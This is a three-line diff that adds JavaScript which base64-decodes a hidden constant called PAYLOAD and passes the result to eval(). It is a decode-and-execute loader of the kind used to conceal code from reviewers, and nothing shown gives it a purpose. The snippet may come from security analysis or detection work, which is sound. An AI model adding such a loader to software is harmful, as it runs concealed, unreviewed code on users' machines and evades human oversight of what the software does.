@@ -1,0 +1,3 @@
+// The decoded text held in a variable, then evaluated.
+const code = Buffer.from(PAYLOAD, 'base64').toString();
+eval(code);
